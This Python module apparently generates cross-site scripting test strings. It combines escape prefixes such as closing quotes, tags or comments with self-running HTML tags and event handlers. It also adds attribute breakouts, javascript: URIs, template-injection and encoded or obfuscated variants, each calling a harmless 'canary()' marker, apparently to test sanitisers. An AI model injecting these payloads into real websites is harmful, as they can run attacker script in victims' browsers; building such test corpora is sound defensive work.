"""Texts that would run a script wherever they were put into a page as they are, made by combination."""

CALL = "canary()"
# What runs by itself as soon as it stands in a page.
STARTS = [
    f"<script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg/onload={CALL}//",
    f"<details open ontoggle={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}></audio>",
    f'<iframe srcdoc="<script>parent.{CALL}</script>"></iframe>',
    f'<iframe src="javascript:parent.{CALL}"></iframe>',
    f"<body onpageshow={CALL}>",
    f"<link rel=stylesheet href=x onerror={CALL}>",
    f"<object data=x onerror={CALL}></object>",
    f"<sCrIpT\n>{CALL}</sCrIpT\t>",
    f'<a href="javascript:{CALL}" autofocus>x</a>',
    f'<form action="javascript:{CALL}"><button>x</button></form>',
    f"<math><mtext><img src=x onerror={CALL}></mtext></math>",
]
# What the text may have to get out of first.
BEFORE = [
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "-->",
    "</script>",
    "]]>",
    "</option></select>",
    "</style>",
    "\u00bc/script>",
]
# Without any tag: out of an attribute's value, or as a whole address.
WITHIN = [
    f'" autofocus onfocus={CALL} x="',
    f"' autofocus onfocus={CALL} x='",
    f"x autofocus onfocus={CALL}",
    f"` autofocus onfocus={CALL} x=`",
    f"javascript:{CALL}",
    f"java\tscript:{CALL}",
    f"data:text/html,<script>opener.{CALL}</script>",
    f'" style="animation-name:x" onanimationstart="{CALL}',
    f'" hx-on:load="{CALL}" x="',
    f'" hx-get="/" hx-trigger="load" hx-vals="js:{{x:{CALL}}}" x="',
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"${{{CALL}}}",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&#60;script&#62;{CALL}&#60;/script&#62;",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
    f"＜script＞{CALL}＜/script＞",
]
PAYLOADS = [before + start for before in BEFORE for start in STARTS] + WITHIN


def chunks(size: int) -> list[str]:
    """Several in one text: the first that is not made harmless runs."""
    return [" ".join(PAYLOADS[at : at + size]) for at in range(0, len(PAYLOADS), size)]
